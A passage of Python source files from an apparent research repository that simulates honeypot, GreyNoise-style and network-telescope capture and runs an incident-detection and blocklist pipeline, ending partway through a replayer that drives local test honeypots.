        self._advance(self.analyzer.hours, final=True)
        self.store.resolve_all(max(self.analyzer.hours - 1, 0))

    # -- evaluation -----------------------------------------------------

    def _advance(self, through_hour: int, final: bool = False) -> None:
        while self._evaluated_hours < through_hour:
            hour = self._evaluated_hours
            last = final and hour == through_hour - 1
            self._evaluate(hour, last)
            self._evaluated_hours += 1

    def _evaluate(self, hour: int, last: bool) -> None:
        signals = []
        for rule in self.rules:
            if last or (hour + 1) % rule.cadence == 0:
                signals.extend(rule.evaluate(self.analyzer, hour))
        opened = self.store.ingest(signals, hour)
        for incident in opened:
            rule = self._rule_named(incident.rule)
            if rule is not None:
                self.executor.execute(incident, rule.runbook, hour)
        self.store.resolve_quiet(hour)

    def _rule_named(self, name: str) -> Optional[IncidentRule]:
        for rule in self.rules:
            if rule.name == name:
                return rule
        return None

    # -- views ----------------------------------------------------------

    def summary(self) -> dict:
        """Counts + last action, the shape snapshots and CLIs print."""
        counts = self.store.counts()
        last = self.executor.last_action()
        last_text = None
        if last is not None:
            parts = [f"{last['action']}"]
            for key in ("asn", "service", "region"):
                if key in last:
                    prefix = "AS" if key == "asn" else ""
                    parts.append(f"{prefix}{last[key]}")
            last_text = " ".join(parts) + f" (hour {last['hour']}, {last['incident']})"
        return {
            "open": counts["open"],
            "acknowledged": counts["acknowledged"],
            "resolved": counts["resolved"],
            "incidents": len(self.store.history),
            "actions": self.executor.action_count(),
            "blocklist_entries": len(self.executor.blocklist),
            "audit_records": len(self.audit),
            "last_action": last_text,
        }


def canonical_chunks(tables: dict, hours: int) -> Iterator[StreamChunk]:
    """Replay merged per-vantage tables in the canonical stream order.

    Hour-major, then vantage id (sorted), then original table row order
    — the stable argsort by hour bin preserves intra-hour row order, so
    the yielded row sequence is a pure function of the merged tables.
    """
    hours = int(hours)
    prepared = []
    for vantage_id in sorted(tables):
        table = tables[vantage_id]
        if len(table) == 0:
            continue
        stamps = np.asarray(table.timestamps, dtype=np.float64)
        # hourly_volumes binning: final bin right-closed, so ts == hours
        # lands in the last hour.
        bins = np.minimum(stamps.astype(np.int64), hours - 1)
        order = np.argsort(bins, kind="stable")
        columns = {
            name: np.asarray(getattr(table, accessor))[order]
            for name, accessor in _COLUMN_ACCESSORS
        }
        bounds = np.searchsorted(bins[order], np.arange(hours + 1))
        prepared.append((table, columns, bounds))
    for hour in range(hours):
        for table, columns, bounds in prepared:
            lo, hi = int(bounds[hour]), int(bounds[hour + 1])
            if hi > lo:
                yield StreamChunk.from_table_chunk(table, columns, lo, hi)


def detect_incidents(
    dataset: "AnalysisDataset",
    rules: Optional[tuple[IncidentRule, ...]] = None,
    quiet_hours: int = 12,
    sketch_k: int = 64,
) -> IncidentPipeline:
    """Post-hoc detection over a merged dataset, canonically ordered.

    Returns the finalized pipeline; ``pipeline.audit`` is the complete
    (byte-stable) audit log and ``pipeline.executor.blocklist`` the
    auto-emitted entries the closed-loop experiment feeds back.
    """
    from repro.stream.analyzer import StreamAnalyzer

    hours = int(dataset.window.hours)
    tables = dataset.tables
    if tables is None:  # row-backed dataset (tests): columnarize first
        from repro.io.table import EventTable

        tables = {
            vantage_id: EventTable.from_events(rows, vantage_id=vantage_id)
            for vantage_id, rows in sorted(dataset._by_vantage().items())
        }
    analyzer = StreamAnalyzer(
        hours=hours,
        sketch_k=sketch_k,
        leak_experiment=dataset.leak_experiment,
    )
    pipeline = IncidentPipeline(analyzer, rules=rules, quiet_hours=quiet_hours)
    for chunk in canonical_chunks(tables, hours):
        analyzer.consume(chunk)
        pipeline.consume(chunk)
    pipeline.finalize()
    return pipeline
