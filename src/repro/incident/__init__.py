"""Incident detection and automated response over the streaming layer.

The subsystem promotes the one-off streaming Table 3 leak alarm into a
general pipeline, in the signal-aggregator → incident-detector →
runbook-executor shape:

* :mod:`repro.incident.rules` — declarative rules evaluated over the
  :class:`~repro.stream.analyzer.StreamAnalyzer`'s sketches and tumbling
  windows at every sealed hour, each emitting correlated ``Signal``s;
* :mod:`repro.incident.incidents` — incident objects with a
  deterministic lifecycle (open → acknowledged → resolved), deduplicated
  by correlation key, persisted to an append-only NDJSON audit log;
* :mod:`repro.incident.runbooks` — typed response actions (emit a
  blocklist entry, rotate a honeypot fingerprint, reweight a deployment
  region), each recorded with cause-incident provenance;
* :mod:`repro.incident.enforce` — the closed loop's enforcement side: an
  :class:`ActiveBlocklist` the simulation engine applies mid-run;
* :mod:`repro.incident.pipeline` — the bus subscriber wiring it all
  together, plus the canonical dataset replay that makes detection
  bit-identical across shard counts.

Everything is event-time only — no wall clocks — so a fixed seed yields
a bit-identical audit log no matter how the run was sharded.
"""

from repro.incident.enforce import ActiveBlocklist
from repro.incident.incidents import AuditLog, Incident, IncidentStore
from repro.incident.pipeline import (
    IncidentPipeline,
    canonical_chunks,
    detect_incidents,
)
from repro.incident.rules import (
    CampaignOnsetRule,
    CredentialLeakRule,
    IncidentRule,
    NewHeavyHitterRule,
    Signal,
    VolumeSpikeRule,
    default_rules,
)
from repro.incident.runbooks import BlocklistEntry, RunbookExecutor

__all__ = [
    "ActiveBlocklist",
    "AuditLog",
    "BlocklistEntry",
    "CampaignOnsetRule",
    "CredentialLeakRule",
    "Incident",
    "IncidentPipeline",
    "IncidentRule",
    "IncidentStore",
    "NewHeavyHitterRule",
    "RunbookExecutor",
    "Signal",
    "VolumeSpikeRule",
    "canonical_chunks",
    "default_rules",
    "detect_incidents",
]
