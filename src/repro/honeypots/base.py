"""Vantage points and the capture-stack interface.

A *vantage point* is a set of IP addresses in one network+region observed
through one capture framework.  The framework defines what the paper calls
the "collection method" (Table 1): which ports are observed, whether the
L4 handshake completes, whether payloads are recorded, and whether
interactive logins are emulated.

The analysis pipeline only ever sees the :class:`CapturedEvent` records a
stack chooses to emit — the stack is the epistemic boundary between what
attackers *did* and what researchers *know*.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass, field
from typing import Iterable, Optional

import numpy as np

from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, NetworkKind, ScanIntent

__all__ = ["CaptureStack", "VantagePoint", "VantageCapture"]


class CaptureStack(abc.ABC):
    """Abstract capture framework.

    Subclasses set :attr:`completes_handshake` and implement
    :meth:`observes` (port filtering) and :meth:`capture` (what survives
    into the dataset).
    """

    #: Human-readable framework name as it appears in Table 1.
    name: str = "abstract"
    #: Whether the stack completes TCP handshakes (telescopes do not).
    completes_handshake: bool = True

    @abc.abstractmethod
    def observes(self, port: int) -> bool:
        """Whether traffic to ``port`` is recorded at all."""

    @abc.abstractmethod
    def capture(
        self, intent: ScanIntent, vantage: "VantagePoint", src_asn: int
    ) -> Optional[CapturedEvent]:
        """Turn a connection attempt into a dataset record (or drop it)."""

    def _base_event(
        self,
        intent: ScanIntent,
        vantage: "VantagePoint",
        src_asn: int,
        handshake: bool,
        payload: bytes,
        credentials: tuple[tuple[str, str], ...] = (),
    ) -> CapturedEvent:
        # UDP has no handshake, and per the paper's ethics posture the
        # honeypots never *respond* to UDP — but the first datagram's
        # payload still arrives and is recorded (Honeytrap semantics).
        if intent.transport is Transport.UDP:
            handshake = False
        return CapturedEvent(
            vantage_id=vantage.vantage_id,
            network=vantage.network,
            network_kind=vantage.kind,
            region=vantage.region_code,
            timestamp=intent.timestamp,
            src_ip=intent.src_ip,
            src_asn=src_asn,
            dst_ip=intent.dst_ip,
            dst_port=intent.dst_port,
            transport=intent.transport,
            handshake=handshake,
            payload=payload,
            credentials=credentials,
        )


@dataclass(frozen=True)
class VantagePoint:
    """A deployed observation point: IPs + framework + location."""

    vantage_id: str
    network: str
    kind: NetworkKind
    region_code: str
    continent: str
    ips: np.ndarray
    stack: CaptureStack

    def __post_init__(self) -> None:
        if len(self.ips) == 0:
            raise ValueError("a vantage point needs at least one IP")

    @property
    def num_ips(self) -> int:
        return len(self.ips)

    def __str__(self) -> str:
        return (
            f"{self.vantage_id} [{self.network}/{self.region_code}, "
            f"{self.num_ips} IPs, {self.stack.name}]"
        )


@dataclass
class VantageCapture:
    """The event dataset recorded at one vantage point."""

    vantage: VantagePoint
    events: list[CapturedEvent] = field(default_factory=list)

    def record(self, intent: ScanIntent, src_asn: int) -> Optional[CapturedEvent]:
        """Run one intent through the vantage's stack; keep what survives."""
        if not self.vantage.stack.observes(intent.dst_port):
            return None
        event = self.vantage.stack.capture(intent, self.vantage, src_asn)
        if event is not None:
            self.events.append(event)
        return event

    def extend(self, events: Iterable[CapturedEvent]) -> None:
        self.events.extend(events)

    def __len__(self) -> int:
        return len(self.events)
