"""Vantage points and the capture-stack interface.

A *vantage point* is a set of IP addresses in one network+region observed
through one capture framework.  The framework defines what the paper calls
the "collection method" (Table 1): which ports are observed, whether the
L4 handshake completes, whether payloads are recorded, and whether
interactive logins are emulated.

The analysis pipeline only ever sees the :class:`CapturedEvent` records a
stack chooses to emit — the stack is the epistemic boundary between what
attackers *did* and what researchers *know*.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass
from typing import Iterable, Optional

import numpy as np

from repro.io.table import EventTable
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, IntentBatch, NetworkKind, ScanIntent

__all__ = ["CaptureStack", "VantagePoint", "VantageCapture"]


class CaptureStack(abc.ABC):
    """Abstract capture framework.

    Subclasses set :attr:`completes_handshake` and implement
    :meth:`observes` (port filtering) and :meth:`capture` (what survives
    into the dataset).
    """

    #: Human-readable framework name as it appears in Table 1.
    name: str = "abstract"
    #: Whether the stack completes TCP handshakes (telescopes do not).
    completes_handshake: bool = True

    @abc.abstractmethod
    def observes(self, port: int) -> bool:
        """Whether traffic to ``port`` is recorded at all."""

    @abc.abstractmethod
    def capture(
        self, intent: ScanIntent, vantage: "VantagePoint", src_asn: int
    ) -> Optional[CapturedEvent]:
        """Turn a connection attempt into a dataset record (or drop it)."""

    def capture_batch(
        self,
        batch: IntentBatch,
        vantage: "VantagePoint",
        src_asns: np.ndarray,
        table: EventTable,
    ) -> int:
        """Capture a whole intent batch into ``table``; returns rows kept.

        Stacks that define :meth:`capture_batch_columns` append one
        zero-copy column chunk; everything else (e.g. stochastic wrappers
        like the firewall) falls back to materializing rows through
        :meth:`capture`, so any stack is batch-capable.  Both paths must
        record exactly what the scalar path would.
        """
        columns = self.capture_batch_columns(batch, src_asns)
        if columns is not None:
            return table.append_view(columns, 0, len(batch))
        appended = 0
        for intent, src_asn in zip(batch.intents(), src_asns):
            event = self.capture(intent, vantage, int(src_asn))
            if event is not None:
                table.append_event(event)
                appended += 1
        return appended

    def capture_batch_columns(
        self, batch: IntentBatch, src_asns: np.ndarray
    ) -> Optional[dict]:
        """Vectorized capture: the batch's captured-column dict, or None.

        A stack whose capture transformation is a pure per-row column
        mapping (no drops, no vantage dependence) returns the
        :class:`~repro.io.table.EventTable` chunk columns for the *whole*
        batch; callers append per-vantage ``[start, stop)`` views of it.
        Returning None routes the batch through the scalar fallback.
        """
        return None

    def batch_policy_key(self, port: int) -> Optional[tuple]:
        """Hash key identifying this stack's capture transformation.

        Two stack instances with equal keys produce identical
        :meth:`capture_batch_columns` for the same batch, letting the
        engine compute the columns once and share them across every
        vantage in a run (stack instances are per-vantage).  None means
        the transformation is not shareable (scalar fallback).
        """
        return None

    def _base_event(
        self,
        intent: ScanIntent,
        vantage: "VantagePoint",
        src_asn: int,
        handshake: bool,
        payload: bytes,
        credentials: tuple[tuple[str, str], ...] = (),
    ) -> CapturedEvent:
        # UDP has no handshake, and per the paper's ethics posture the
        # honeypots never *respond* to UDP — but the first datagram's
        # payload still arrives and is recorded (Honeytrap semantics).
        if intent.transport is Transport.UDP:
            handshake = False
        return CapturedEvent(
            vantage_id=vantage.vantage_id,
            network=vantage.network,
            network_kind=vantage.kind,
            region=vantage.region_code,
            timestamp=intent.timestamp,
            src_ip=intent.src_ip,
            src_asn=src_asn,
            dst_ip=intent.dst_ip,
            dst_port=intent.dst_port,
            transport=intent.transport,
            handshake=handshake,
            payload=payload,
            credentials=credentials,
        )


@dataclass(frozen=True)
class VantagePoint:
    """A deployed observation point: IPs + framework + location."""

    vantage_id: str
    network: str
    kind: NetworkKind
    region_code: str
    continent: str
    ips: np.ndarray
    stack: CaptureStack

    def __post_init__(self) -> None:
        if len(self.ips) == 0:
            raise ValueError("a vantage point needs at least one IP")

    @property
    def num_ips(self) -> int:
        return len(self.ips)

    def __str__(self) -> str:
        return (
            f"{self.vantage_id} [{self.network}/{self.region_code}, "
            f"{self.num_ips} IPs, {self.stack.name}]"
        )


class VantageCapture:
    """The event dataset recorded at one vantage point.

    Events live in a columnar :class:`~repro.io.table.EventTable`; the
    ``events`` property materializes (and caches) row objects for
    consumers that still iterate, while column-oriented analyses read
    ``capture.table`` directly.
    """

    def __init__(
        self,
        vantage: VantagePoint,
        events: Optional[Iterable[CapturedEvent]] = None,
    ) -> None:
        self.vantage = vantage
        self.table = EventTable.for_vantage(vantage)
        if events:
            self.extend(events)

    @property
    def events(self) -> list[CapturedEvent]:
        """Row-object view of the table (built lazily, cached)."""
        return self.table.materialize()

    def record(self, intent: ScanIntent, src_asn: int) -> Optional[CapturedEvent]:
        """Run one intent through the vantage's stack; keep what survives."""
        if not self.vantage.stack.observes(intent.dst_port):
            return None
        event = self.vantage.stack.capture(intent, self.vantage, src_asn)
        if event is not None:
            self.table.append_event(event)
        return event

    def record_batch(self, batch: IntentBatch, src_asns: np.ndarray) -> int:
        """Run a whole intent batch through the stack; returns rows kept."""
        if len(batch) == 0 or not self.vantage.stack.observes(batch.dst_port):
            return 0
        return self.vantage.stack.capture_batch(
            batch, self.vantage, src_asns, self.table
        )

    def extend(self, events: Iterable[CapturedEvent]) -> None:
        for event in events:
            self.table.append_event(event)

    def __len__(self) -> int:
        return len(self.table)
