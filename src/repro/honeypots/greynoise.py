"""GreyNoise-style sensor: Cowrie on SSH/Telnet ports, handshake+payload elsewhere.

"GreyNoise uses Cowrie ... to collect SSH (ports 22, 2222) and Telnet
(23, 2323) attempted login credentials.  For all other ports, GreyNoise
completes the TCP or TLS handshake and records only the first received
payload.  Each GreyNoise honeypot hosts public vulnerable-looking
protocol-assigned services on at least seven popular ports." (Section 3.1)
"""

from __future__ import annotations

from typing import Optional

import numpy as np

from repro.honeypots.base import CaptureStack, VantagePoint
from repro.honeypots.cowrie import COWRIE_PORTS, CowrieStack
from repro.io.table import TRANSPORT_CODES
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, IntentBatch, ScanIntent

__all__ = ["GreyNoiseStack", "GREYNOISE_DEFAULT_PORTS"]

#: The "at least seven popular ports" a GreyNoise honeypot exposes.
GREYNOISE_DEFAULT_PORTS: frozenset[int] = frozenset(
    {21, 22, 23, 25, 80, 443, 2222, 2323, 7547, 8080, 445}
)


class GreyNoiseStack(CaptureStack):
    """Composite sensor matching GreyNoise's published capture behavior."""

    name = "GreyNoise"
    completes_handshake = True

    def __init__(self, ports: frozenset[int] = GREYNOISE_DEFAULT_PORTS) -> None:
        if not ports:
            raise ValueError("a GreyNoise sensor must expose at least one port")
        self._ports = frozenset(ports)
        self._cowrie = CowrieStack(self._ports & COWRIE_PORTS)

    @property
    def ports(self) -> frozenset[int]:
        return self._ports

    def observes(self, port: int) -> bool:
        return port in self._ports

    def capture(
        self, intent: ScanIntent, vantage: VantagePoint, src_asn: int
    ) -> Optional[CapturedEvent]:
        if self._cowrie.observes(intent.dst_port):
            return self._cowrie.capture(intent, vantage, src_asn)
        # Non-Cowrie port: handshake completes, first payload only, no
        # interactive login emulation (credentials are never observed).
        return self._base_event(
            intent,
            vantage,
            src_asn,
            handshake=True,
            payload=intent.payload,
        )

    def capture_batch_columns(self, batch: IntentBatch, src_asns: np.ndarray) -> dict:
        if self._cowrie.observes(batch.dst_port):
            return self._cowrie.capture_batch_columns(batch, src_asns)
        return {
            "timestamps": batch.timestamps,
            "src_ip": batch.src_ips,
            "src_asn": src_asns,
            "dst_ip": batch.dst_ips,
            "dst_port": batch.dst_port,
            "transport_code": TRANSPORT_CODES[batch.transport],
            "handshake": batch.transport is Transport.TCP,
            "payload": batch.payloads,
            "credentials": (),
            "commands": (),
        }

    def batch_policy_key(self, port: int) -> tuple:
        if self._cowrie.observes(port):
            return self._cowrie.batch_policy_key(port)
        return ("greynoise",)
