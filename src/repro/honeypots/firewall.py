"""Transparent upstream firewalls (paper Section 7, "Firewalls").

The paper notes that "it is possible that a network could transparently
drop malicious traffic before [it] reach[es] our honeypots" and leaves
measuring that effect to future work.  :class:`FirewalledStack` models
exactly that confound: a network-edge middlebox that silently drops a
fraction of recognizably-malicious sessions *before* the capture stack
sees them.

Because the firewall sits upstream of the epistemic boundary, analyses on
a firewalled vantage underestimate malicious traffic — the ablation
benchmark (``benchmarks/test_bench_ablations.py``) quantifies by how
much, which is the measurement the paper calls for.
"""

from __future__ import annotations

from typing import Optional

from repro.detection.engine import RuleEngine
from repro.honeypots.base import CaptureStack, VantagePoint
from repro.sim.events import CapturedEvent, ScanIntent
from repro.sim.rng import stable_hash64

__all__ = ["FirewalledStack"]


class FirewalledStack(CaptureStack):
    """Wrap a capture stack behind a transparent malicious-traffic filter.

    ``drop_probability`` is the chance the middlebox recognizes and drops
    one malicious session (login attempts and rule-matching payloads).
    Drops are deterministic per (src, dst, timestamp) so simulations stay
    reproducible.  Benign traffic always passes — real transparent
    filters are tuned for low false positives.
    """

    name = "Firewalled"

    def __init__(
        self,
        inner: CaptureStack,
        drop_probability: float,
        rule_engine: Optional[RuleEngine] = None,
        seed: int = 0,
    ) -> None:
        if not 0.0 <= drop_probability <= 1.0:
            raise ValueError("drop_probability must be in [0, 1]")
        self._inner = inner
        self._drop_probability = drop_probability
        self._rules = rule_engine or RuleEngine()
        self._seed = seed
        self.name = f"Firewalled({inner.name})"
        self.completes_handshake = inner.completes_handshake
        self.dropped = 0

    @property
    def inner(self) -> CaptureStack:
        return self._inner

    def observes(self, port: int) -> bool:
        return self._inner.observes(port)

    def _looks_malicious(self, intent: ScanIntent) -> bool:
        if intent.credentials:
            return True
        if intent.payload and self._rules.is_malicious(intent.payload, intent.dst_port):
            return True
        return False

    def _drops(self, intent: ScanIntent) -> bool:
        if self._drop_probability == 0.0:
            return False
        if not self._looks_malicious(intent):
            return False
        if self._drop_probability >= 1.0:
            return True
        draw = stable_hash64(
            self._seed, intent.src_ip, intent.dst_ip, round(intent.timestamp, 6)
        ) / float(1 << 64)
        return draw < self._drop_probability

    def capture(
        self, intent: ScanIntent, vantage: VantagePoint, src_asn: int
    ) -> Optional[CapturedEvent]:
        if self._drops(intent):
            self.dropped += 1
            return None
        return self._inner.capture(intent, vantage, src_asn)
