"""Honeypot frameworks and the network telescope."""

from repro.honeypots.base import CaptureStack, VantageCapture, VantagePoint
from repro.honeypots.cowrie import COWRIE_PORTS, CowrieStack
from repro.honeypots.firewall import FirewalledStack
from repro.honeypots.greynoise import GREYNOISE_DEFAULT_PORTS, GreyNoiseStack
from repro.honeypots.honeytrap import HoneytrapStack
from repro.honeypots.telescope import TelescopeCapture, TelescopeStack

__all__ = [
    "CaptureStack", "VantageCapture", "VantagePoint",
    "COWRIE_PORTS", "CowrieStack",
    "FirewalledStack",
    "GREYNOISE_DEFAULT_PORTS", "GreyNoiseStack",
    "HoneytrapStack",
    "TelescopeCapture", "TelescopeStack",
]
