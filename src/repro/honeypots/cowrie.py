"""Cowrie-style interactive SSH/Telnet capture.

GreyNoise "uses Cowrie, an interactive honeypot, to collect SSH (ports
22, 2222) and Telnet (23, 2323) attempted login credentials" (Section
3.1).  The essential capture semantics: the handshake and protocol banner
exchange complete, and every username/password attempt in the session is
recorded alongside the client's first protocol message.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Optional

import numpy as np

from repro.honeypots.base import CaptureStack, VantagePoint
from repro.io.table import TRANSPORT_CODES
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, IntentBatch, ScanIntent
from repro.sim.rng import stable_hash64

__all__ = ["CowrieStack", "COWRIE_PORTS"]

#: Ports on which GreyNoise runs Cowrie.
COWRIE_PORTS: frozenset[int] = frozenset({22, 2222, 23, 2323})


class CowrieStack(CaptureStack):
    """Interactive credential-capturing stack for SSH/Telnet ports.

    ``ports`` restricts which ports the instance listens on (defaults to
    the four Cowrie ports).  Credentials are recorded verbatim; sessions
    that never attempt a login still yield an event with the client's
    banner/negotiation payload — that distinction is what lets the
    analysis measure the fraction of non-authentication traffic
    (Section 3.2).

    Like real Cowrie, the honeypot *accepts* a fraction of login attempts
    (``accept_login_probability``, deterministic per session) and then
    records the fake-shell commands the actor runs — the post-compromise
    behavior Cowrie exists to collect.
    """

    name = "Cowrie"
    completes_handshake = True

    def __init__(
        self,
        ports: frozenset[int] = COWRIE_PORTS,
        accept_login_probability: float = 0.35,
        seed: int = 0,
    ) -> None:
        if not 0.0 <= accept_login_probability <= 1.0:
            raise ValueError("accept_login_probability must be in [0, 1]")
        self._ports = frozenset(ports)
        self._accept_probability = accept_login_probability
        self._seed = seed

    def observes(self, port: int) -> bool:
        return port in self._ports

    def _accepts_login_at(self, src_ip: int, dst_ip: int, timestamp: float) -> bool:
        if self._accept_probability >= 1.0:
            return True
        if self._accept_probability <= 0.0:
            return False
        draw = stable_hash64(
            self._seed, "cowrie-login", src_ip, dst_ip, round(timestamp, 6)
        ) / float(1 << 64)
        return draw < self._accept_probability

    def _accepts_login(self, intent: ScanIntent) -> bool:
        return self._accepts_login_at(intent.src_ip, intent.dst_ip, intent.timestamp)

    def capture(
        self, intent: ScanIntent, vantage: VantagePoint, src_asn: int
    ) -> Optional[CapturedEvent]:
        credentials = tuple(credential.as_tuple() for credential in intent.credentials)
        commands: tuple[str, ...] = ()
        if credentials and intent.commands and self._accepts_login(intent):
            commands = intent.commands
        event = self._base_event(
            intent,
            vantage,
            src_asn,
            handshake=True,
            payload=intent.payload,
            credentials=credentials,
        )
        if commands:
            event = replace(event, commands=commands)
        return event

    def capture_batch_columns(self, batch: IntentBatch, src_asns: np.ndarray) -> dict:
        """Vectorized capture: credentials verbatim, commands per login.

        Only sessions that both tried credentials and carry a command
        sequence run the deterministic accept-login hash — the scalar
        path's exact gate — so the per-row Python work is limited to the
        small logged-in candidate subset.
        """
        count = len(batch)
        credentials = batch.credentials
        batch_commands = batch.commands
        commands: object = ()
        if self._accept_probability > 0.0:
            candidates = [
                index
                for index in range(count)
                if credentials[index] and batch_commands[index]
            ]
            if candidates:
                column = np.empty(count, dtype=object)
                column[:] = [()] * count
                src_ips = batch.src_ips
                dst_ips = batch.dst_ips
                timestamps = batch.timestamps
                for index in candidates:
                    if self._accepts_login_at(
                        int(src_ips[index]), int(dst_ips[index]), float(timestamps[index])
                    ):
                        column[index] = batch_commands[index]
                commands = column
        return {
            "timestamps": batch.timestamps,
            "src_ip": batch.src_ips,
            "src_asn": src_asns,
            "dst_ip": batch.dst_ips,
            "dst_port": batch.dst_port,
            "transport_code": TRANSPORT_CODES[batch.transport],
            "handshake": batch.transport is Transport.TCP,
            "payload": batch.payloads,
            "credentials": credentials,
            "commands": commands,
        }

    def batch_policy_key(self, port: int) -> tuple:
        return ("cowrie", self._accept_probability, self._seed)
