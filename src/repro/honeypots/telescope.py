"""Network-telescope capture: headers only, no handshake, aggregated.

"Network telescopes/darknets typically do not host any services, receive
traffic on all ports and IP addresses, and only record the first packet
of a connection (i.e., they do not complete the TCP layer 4 handshake)."
(Section 3.1)

Because a telescope spans orders of magnitude more addresses than a
honeypot fleet (Orion: 475K IPs), raw per-packet records would dominate
memory without adding analytical power: every analysis the paper runs on
telescope data needs only (a) per-port source-IP hit counts, (b) per-port
per-destination unique-source counts (Figure 1), and (c) per-source AS
attribution.  :class:`TelescopeCapture` therefore aggregates at capture
time — exactly the flow-level aggregation real telescope pipelines apply.

The plain :class:`TelescopeStack` also supports the event-at-a-time
:meth:`capture` API (emitting payload-free events) so small-scale tests
and the live replayer can treat every stack uniformly.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Optional

import numpy as np

from repro.honeypots.base import CaptureStack, VantagePoint
from repro.io.table import TRANSPORT_CODES
from repro.sim.events import CapturedEvent, IntentBatch, ScanIntent

__all__ = ["TelescopeStack", "TelescopeCapture"]


class TelescopeStack(CaptureStack):
    """Header-only capture on every port; never completes handshakes."""

    name = "Telescope"
    completes_handshake = False

    def observes(self, port: int) -> bool:
        return True

    def capture(
        self, intent: ScanIntent, vantage: VantagePoint, src_asn: int
    ) -> Optional[CapturedEvent]:
        # Only the first packet (the SYN) is recorded: no handshake, no
        # payload, no credentials — regardless of what the scanner would
        # have sent.
        return self._base_event(intent, vantage, src_asn, handshake=False, payload=b"")

    def capture_batch_columns(self, batch: IntentBatch, src_asns: np.ndarray) -> dict:
        # Header-only columns: the application-layer fields never survive.
        return {
            "timestamps": batch.timestamps,
            "src_ip": batch.src_ips,
            "src_asn": src_asns,
            "dst_ip": batch.dst_ips,
            "dst_port": batch.dst_port,
            "transport_code": TRANSPORT_CODES[batch.transport],
            "handshake": False,
            "payload": b"",
            "credentials": (),
            "commands": (),
        }

    def batch_policy_key(self, port: int) -> tuple:
        return ("telescope",)


@dataclass
class TelescopeCapture:
    """Aggregated telescope dataset for one telescope vantage.

    ``port_src_hits[port][src_ip]`` counts first-packets; ``asn_of_src``
    records the IP→AS attribution the analysis would derive from routing
    data; ``port_dst_unique[port]`` counts distinct sources per
    destination index (aligned with ``vantage.ips``), which is the series
    Figure 1 plots.
    """

    vantage: VantagePoint
    port_src_hits: dict[int, Counter] = field(default_factory=dict)
    asn_of_src: dict[int, int] = field(default_factory=dict)
    _port_dst_unique: dict[int, np.ndarray] = field(default_factory=dict)

    def _dst_array(self, port: int) -> np.ndarray:
        array = self._port_dst_unique.get(port)
        if array is None:
            array = np.zeros(self.vantage.num_ips, dtype=np.int64)
            self._port_dst_unique[port] = array
        return array

    def record_source_hits(
        self,
        port: int,
        source_ips: np.ndarray,
        source_asns: np.ndarray,
        hit_counts: np.ndarray,
    ) -> None:
        """Credit ``hit_counts[i]`` first-packets to ``source_ips[i]``."""
        counter = self.port_src_hits.setdefault(port, Counter())
        for src, asn, hits in zip(source_ips, source_asns, hit_counts):
            if hits <= 0:
                continue
            counter[int(src)] += int(hits)
            self.asn_of_src[int(src)] = int(asn)

    def record_destination_sources(self, port: int, distinct_per_dst: np.ndarray) -> None:
        """Add per-destination distinct-source counts (Figure 1 series)."""
        array = self._dst_array(port)
        if len(distinct_per_dst) != len(array):
            raise ValueError("distinct_per_dst misaligned with telescope IPs")
        array += np.asarray(distinct_per_dst, dtype=np.int64)

    # ----- analysis-side accessors -----

    def sources_on_port(self, port: int) -> set[int]:
        """All source IPs seen sending to ``port``."""
        return set(self.port_src_hits.get(port, ()))

    def ports(self) -> list[int]:
        return sorted(self.port_src_hits)

    def as_counts(self, port: int) -> Counter:
        """Per-AS total first-packet counts on ``port``."""
        totals: Counter = Counter()
        for src, hits in self.port_src_hits.get(port, Counter()).items():
            totals[self.asn_of_src[src]] += hits
        return totals

    def unique_sources_per_destination(self, port: int) -> np.ndarray:
        """Distinct-source count per telescope IP (index-aligned)."""
        return self._dst_array(port).copy()

    def total_unique_sources(self) -> int:
        sources: set[int] = set()
        for counter in self.port_src_hits.values():
            sources.update(counter)
        return len(sources)

    def total_unique_ases(self) -> int:
        return len({self.asn_of_src[src] for counter in self.port_src_hits.values() for src in counter})
