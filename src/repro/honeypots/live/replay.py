"""Traffic replayer: drive live honeypots with simulated scan intents.

Takes :class:`~repro.sim.events.ScanIntent` objects (or raw payloads and
credential sequences) and performs them over real TCP connections, so a
simulated campaign can be replayed against the asyncio honeypots and the
captured events compared with the simulator's output.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from typing import Iterable, Sequence

from repro.sim.events import Credential, ScanIntent

__all__ = ["ReplayClient", "replay_intents"]


@dataclass
class ReplayClient:
    """Replays scan sessions against a host:port map."""

    host: str = "127.0.0.1"
    connect_timeout: float = 5.0
    io_timeout: float = 5.0

    async def send_payload(self, port: int, payload: bytes) -> bytes:
        """Open a connection, send one payload, return the server reply."""
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, port), timeout=self.connect_timeout
        )
        try:
            if payload:
                writer.write(payload)
                await writer.drain()
            try:
                return await asyncio.wait_for(reader.read(64 * 1024), timeout=self.io_timeout)
            except asyncio.TimeoutError:
                return b""
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError):
                pass

    async def login_session(
        self,
        port: int,
        credentials: Sequence[Credential | tuple[str, str]],
        commands: Sequence[str] = (),
    ) -> bytes:
        """Drive a Telnet-style login sequence, then a shell if offered.

        After the final credential pair, if ``commands`` are given the
        client waits for a shell prompt and types them one by one,
        finishing with ``exit`` — the loader behavior Cowrie records.
        """
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, port), timeout=self.connect_timeout
        )
        transcript = b""
        try:
            for credential in credentials:
                username, password = (
                    credential.as_tuple() if isinstance(credential, Credential) else credential
                )
                transcript += await self._read_until_prompt(reader, b"login: ")
                writer.write(username.encode("utf-8") + b"\r\n")
                await writer.drain()
                transcript += await self._read_until_prompt(reader, b"Password: ")
                writer.write(password.encode("utf-8") + b"\r\n")
                await writer.drain()
            for command in commands:
                transcript += await self._read_until_prompt(reader, b"$ ")
                writer.write(command.encode("utf-8") + b"\r\n")
                await writer.drain()
            if commands:
                transcript += await self._read_until_prompt(reader, b"$ ")
                writer.write(b"exit\r\n")
                await writer.drain()
            return transcript
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError):
                pass

    async def _read_until_prompt(self, reader: asyncio.StreamReader, prompt: bytes) -> bytes:
        buffer = b""
        while prompt not in buffer:
            try:
                chunk = await asyncio.wait_for(reader.read(1024), timeout=self.io_timeout)
